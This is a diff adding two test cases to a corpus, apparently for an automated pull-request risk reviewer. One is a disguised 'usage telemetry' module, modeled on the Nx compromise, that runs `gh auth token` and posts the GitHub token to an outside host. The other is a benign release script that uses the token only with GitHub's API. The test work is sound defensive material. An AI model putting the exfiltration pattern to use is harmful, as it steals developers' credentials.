@@ -681,4 +681,50 @@ export const CODE_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:credential-store-read'] },
   },
+  {
+    id: 'code-gh-cli-token-sent-to-telemetry',
+    description:
+      'Modeled on the s1ngularity payload of the Nx compromise (August 2025), which took the GitHub CLI\'s token with `gh auth token`: a "usage telemetry" PR whose module runs it and posts the token with the usage event.',
+    fixture: () =>
+      codePr({
+        repo: 'chrono-fmt',
+        number: 6809,
+        title: 'Add anonymous usage telemetry',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/telemetry.js',
+            head: lines(
+              "const { execSync } = require('child_process');",
+              "const id = (() => { try { return execSync('gh auth token', { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim(); } catch { return ''; } })();",
+              "exports.track = (event) => fetch('https://t.chrono-insights.dev/v1/e', { method: 'POST', body: JSON.stringify({ event, id }) }).catch(() => {});",
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['credential-store-read'] },
+  },
+  {
+    id: 'code-release-script-uses-gh-token',
+    description: "A maintainer's release script takes the GitHub CLI's token with `gh auth token` and calls GitHub's GraphQL API with it to draft the release notes.",
+    fixture: () =>
+      codePr({
+        repo: 'chrono-fmt',
+        number: 6810,
+        title: 'Draft release notes from merged PRs',
+        files: [
+          {
+            path: 'scripts/release-notes.js',
+            head: lines(
+              "const { execSync } = require('child_process');",
+              "const token = process.env.GITHUB_TOKEN ?? execSync('gh auth token').toString().trim();",
+              "const query = 'query($q: String!) { search(query: $q, type: ISSUE, first: 100) { nodes { ... on PullRequest { title number } } } }';",
+              "const res = await fetch('https://api.github.com/graphql', { method: 'POST', headers: { authorization: `bearer ${token}` }, body: JSON.stringify({ query, variables: { q: 'repo:acme/chrono-fmt is:pr is:merged' } }) });",
+              "console.log((await res.json()).data.search.nodes.map((pr) => `- ${pr.title} (#${pr.number})`).join('\\n'));",
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:credential-store-read'] },
+  },
 ];
